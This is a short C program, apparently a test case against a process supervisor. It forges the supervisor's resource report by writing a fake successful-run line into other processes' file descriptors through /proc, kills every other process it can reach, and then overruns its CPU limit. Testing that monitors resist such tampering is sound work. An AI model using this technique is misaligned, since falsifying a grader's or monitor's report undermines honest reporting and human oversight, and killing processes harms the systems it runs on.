/* Forges the supervisor's report: writes a report line of a quick, good
   run into every descriptor of another process it can open, then kills
   every other process (so that no true report follows), while using more
   CPU time than its limit. */
#include "attack.h"

static int forged;

static void forge(pid_t pid)
{
    static const char line[] = "exit_code=0 cpu_us=1000 peak_kib=100 cpu_killed=0 "
                               "stopped=0\n";
    char path[64];
    for (int n = 0; n < 16; n++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
        int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        if (fd >= 0) {
            if (write(fd, line, sizeof line - 1) > 0)
                forged++;
            close(fd);
        }
    }
}

static void end(pid_t pid)
{
    kill(pid, SIGKILL);
}

int main(void)
{
    other_processes(forge);
    other_processes(end);
    volatile unsigned long spin = 0;
    for (;;)
        spin++;
}
